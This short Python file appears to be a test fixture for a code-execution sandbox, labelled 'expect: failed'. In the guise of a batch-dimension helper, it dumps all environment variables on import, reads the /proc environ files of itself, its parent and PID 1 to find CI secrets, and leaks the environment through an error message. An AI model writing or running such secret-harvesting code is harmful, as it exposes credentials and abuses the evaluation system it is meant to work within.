# expect: failed
# Prints every environment variable it can find, hoping for CI secrets.
import os

print(dict(os.environ))
for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ", "/proc/1/environ"):
    try:
        print(open(path, "rb").read().replace(b"\0", b"\n").decode(errors="replace"))
    except OSError as error:
        print(path, error)


def add_batch_dim(image):
    raise ValueError(str(dict(os.environ)))


def remove_batch_dim(batch):
    return batch
